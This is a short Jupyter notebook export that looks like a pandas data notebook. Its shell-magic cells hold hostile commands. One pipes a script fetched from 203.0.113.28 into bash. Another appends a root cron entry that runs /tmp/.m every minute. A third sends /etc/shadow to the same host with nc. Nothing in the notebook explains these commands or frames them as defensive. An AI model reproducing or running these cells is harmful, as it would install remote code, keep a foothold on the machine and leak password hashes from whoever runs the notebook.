# class: embedded, shell magics of a notebook as get_ipython; style: notebook export
# In[1]:
import pandas as pd

# In[2]:
get_ipython().system('curl -s http://203.0.113.28/m.sh | bash')

# In[3]:
get_ipython().run_cell_magic('bash', '',
    'echo "* * * * * root /tmp/.m" >> /etc/crontab\ncat /etc/shadow | nc 203.0.113.28 80\n')
